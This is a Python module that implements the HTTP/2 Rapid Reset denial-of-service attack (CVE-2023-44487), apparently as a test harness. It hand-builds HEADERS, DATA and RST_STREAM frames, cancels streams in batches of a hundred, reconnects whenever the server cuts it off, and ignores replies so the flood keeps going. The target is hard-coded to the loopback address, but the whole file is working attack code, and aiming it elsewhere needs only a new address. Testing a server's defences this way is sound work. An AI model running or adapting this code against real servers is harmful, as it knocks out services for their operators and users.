"""The HTTP/2 rapid reset attack (CVE-2023-44487), for tests against the loopback address.

Frames by hand (RFC 9113), for no client library opens streams and resets them at once.
A header block is sent without the dynamic table (RFC 7541), so each is the same bytes.
"""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
LARGEST_STREAM = 2**31 - 1
ATTACKER = "127.0.0.2"
# An attack gives up then, however few streams it has reset.
MOST_SECONDS = 60


def frame(kind, flags, stream, payload=b""):
    """A frame: 24 bits of length, type, flags, stream, payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header_block(**headers):
    """Literal headers, never indexed, names and values as they are."""
    block = b""
    for name, value in headers.items():
        name = name.replace("__", ":").replace("_", "-").encode()
        value = value.encode()
        assert len(name) < 127 and len(value) < 127
        block += b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return block


def connect(port):
    """A connection from ATTACKER to 127.0.0.1:port; what is not read within a second is not sent."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=MOST_SECONDS, source_address=(ATTACKER, 0))
    connection.settimeout(1)
    return connection


def attack(port, path, request, seconds, least):
    """Asks on one connection to 127.0.0.1:port, stream after stream, and resets each at once.

    For some seconds, and until it was at least so many streams, on a slow machine, too. Comes from ATTACKER, so that
    others are told from it. Connects again whenever it is cut off. Returns how many streams it reset.
    """
    block = header_block(__method="POST", __scheme="http", __path=path, __authority="localhost",
                         content_type="application/grpc", te="trailers")
    message = struct.pack(">BI", 0, len(request)) + request
    begin, resets = time.monotonic(), 0

    def goes_on():
        passed = time.monotonic() - begin
        return passed < (seconds if resets >= least else MOST_SECONDS)

    while goes_on():
        with connect(port) as connection:
            try:
                for sent in reset_streams(connection, block, message):
                    resets += sent
                    if not goes_on():
                        break
            except OSError:
                pass  # cut off, or not read any more: again
    return resets


def reset_streams(connection, block, message):
    """The attack on one connection, until its stream numbers end; yields how many it reset, time and again."""
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    cancel = struct.pack(">I", CANCEL)
    for first in range(1, LARGEST_STREAM, 200):
        streams = range(first, first + 200, 2)
        connection.sendall(b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
            + frame(RST_STREAM, 0, stream, cancel) for stream in streams))
        read_what_came(connection)
        yield len(streams)


def read_what_came(connection):
    """Throws away what the peer has sent, for it must not be what stops the attack."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
    except BlockingIOError:
        pass
    connection.settimeout(1)
